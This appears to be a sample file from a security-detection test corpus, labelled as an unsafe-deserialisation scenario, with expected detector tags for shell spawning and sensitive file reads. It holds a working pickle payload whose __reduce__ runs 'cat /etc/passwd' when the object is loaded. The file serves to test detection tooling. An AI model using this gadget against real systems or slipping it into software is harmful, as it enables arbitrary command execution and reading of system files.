# scenario: 23 unsafe-deserialisation
# expect: process.spawn_shell filesystem.sensitive_read
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Loads a pickle whose __reduce__ runs a shell command.
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("cat /etc/passwd | head -3",))


blob = pickle.dumps(Payload())
pickle.loads(blob)
